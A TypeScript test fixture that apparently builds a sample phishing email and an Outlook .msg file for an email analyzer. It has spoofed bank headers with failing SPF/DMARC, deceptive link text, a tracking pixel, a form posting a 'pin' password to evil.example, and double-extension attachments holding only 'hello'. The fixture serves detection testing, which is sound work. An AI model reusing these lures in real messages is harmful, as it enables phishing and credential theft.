import { type OleFolder, oleFile } from './ole-writer.ts';

/** A message with one of everything that the reader looks at. */
export const MAIL = [
  'Received: from evil.example (unknown [203.0.113.7])',
  '\tby mx.example.org (Postfix) with ESMTPS id ABC',
  '\tfor <victim@example.org>; Mon, 3 Feb 2025 10:00:05 +0100 (CET)',
  'Received: from [IPv6:2001:db8::1] by evil.example; 3 Feb 2025 08:59:00 GMT',
  'Authentication-Results: mx.example.org; spf=fail (not allowed) smtp.mailfrom=bank.example;',
  '\tdkim=none; dmarc=fail (p=REJECT) header.from=bank.example',
  'Received-SPF: Fail (mx.example.org: domain of a@bank.example) client-ip=203.0.113.7; envelope-from="a@bank.example";',
  'DKIM-Signature: v=1; a=rsa-sha256; d=bank.example; s=sel1; bh=x=; b=y',
  'Return-Path: <bounce@evil.example>',
  'From: "Bank, Ltd" <service@bank.example>',
  'Reply-To: other@evil.example',
  'To: Victim <victim@example.org>, =?utf-8?B?RnLDqMOp?= <fred@example.org>',
  'Subject: =?utf-8?Q?Your_acc=C3?= =?utf-8?Q?=B6unt?=',
  'Date: Mon, 3 Feb 2025 09:58:00 +0100',
  'Message-ID: <1@evil.example>',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="outer"',
  '',
  'preamble',
  '--outer',
  'Content-Type: multipart/alternative; boundary=inner',
  '',
  '--inner',
  'Content-Type: text/plain; charset=iso-8859-1',
  'Content-Transfer-Encoding: quoted-printable',
  '',
  'Log in at http://evil.example/=',
  'login, f=FCr immer',
  '--inner',
  'Content-Type: text/html; charset=utf-8',
  'Content-Transfer-Encoding: base64',
  '',
  Buffer.from(
    '<p>See <a href="http://evil.example/login?a=1&amp;b=2">https://www.bank.example/login</a>, ' +
      '<a href="https://bank.example/help">bank.example/help</a>' +
      '<img src="http://track.example/pixel.gif"><form action="http://evil.example/post" method=post>' +
      '<input type=password name=pin></form>',
  ).toString('base64'),
  '--inner--',
  '--outer',
  "Content-Type: application/octet-stream; name*0*=utf-8''r%C3%A9; name*1=sum.pdf.exe",
  'Content-Transfer-Encoding: base64',
  'Content-Disposition: attachment',
  '',
  Buffer.from('hello').toString('base64'),
  '--outer',
  'Content-Type: message/rfc822',
  '',
  'From: inner@example.net',
  'Subject: inner',
  'Content-Type: text/plain',
  '',
  'see http://inner.example/x',
  '--outer--',
  '',
].join('\r\n');

const wide = (text: string) => Buffer.from(text, 'utf16le');

function properties(head: number, values: readonly [tag: number, value: bigint][]): Buffer {
  const bytes = Buffer.alloc(head + values.length * 16);
  for (const [i, [tag, value]] of values.entries()) {
    bytes.writeUInt32LE(tag, head + i * 16);
    bytes.writeBigUInt64LE(value, head + i * 16 + 8);
  }
  return bytes;
}

/** RTF as Outlook packs it: `text` as literals, then a reference to the end. */
export function packedRtf(text: string): Buffer {
  const parts: Buffer[] = [];
  const bytes = Buffer.from(text, 'latin1');
  for (let at = 0; at < bytes.length; at += 8) parts.push(Buffer.from([0]), bytes.subarray(at, at + 8));
  const body = Buffer.concat(parts);
  const head = Buffer.alloc(16);
  head.writeUInt32LE(body.length + 12, 0);
  head.writeUInt32LE(bytes.length, 4);
  head.writeUInt32LE(0x75465a4c, 8);
  return Buffer.concat([head, body]);
}

/** A message as Outlook saves it, with a file and a message attached. */
export function outlookMessage(extra: OleFolder = {}): Buffer {
  return oleFile({
    '__nameid_version1.0': {},
    '__properties_version1.0': properties(32, [
      [0x0039_0040, 133_801_632_000_000_000n],
      [0x3fde_0003, 65001n],
    ]),
    '__substg1.0_0037001F': wide('Invoice'),
    '__substg1.0_0C1A001F': wide('Sender'),
    '__substg1.0_5D01001F': wide('sender@evil.example'),
    '__substg1.0_1000001F': wide('see http://evil.example/a'),
    '__substg1.0_10130102': Buffer.from('<a href="http://evil.example/b">http://bank.example/</a>'),
    '__substg1.0_10090102': packedRtf('{\\rtf1 see http://evil.example/c }'),
    '__recip_version1.0_#00000000': {
      '__properties_version1.0': properties(8, [[0x0c15_0003, 2n]]),
      '__substg1.0_3001001F': wide('Victim'),
      '__substg1.0_39FE001F': wide('victim@example.org'),
    },
    '__attach_version1.0_#00000000': {
      '__properties_version1.0': properties(8, []),
      '__substg1.0_3707001F': wide('invoice.pdf.js'),
      '__substg1.0_370E001F': wide('application/pdf'),
      '__substg1.0_37010102': Buffer.from('hello'),
    },
    '__attach_version1.0_#00000001': {
      '__properties_version1.0': properties(8, []),
      '__substg1.0_3001001F': wide('inner message'),
      '__substg1.0_3701000D': {
        '__properties_version1.0': properties(24, []),
        '__substg1.0_0037001F': wide('inner'),
        '__substg1.0_007D001F': wide('Received: from a by b; 1 Jan 2025 00:00:00 +0000\r\nFrom: x@y.example\r\n'),
      },
    },
    ...extra,
  });
}
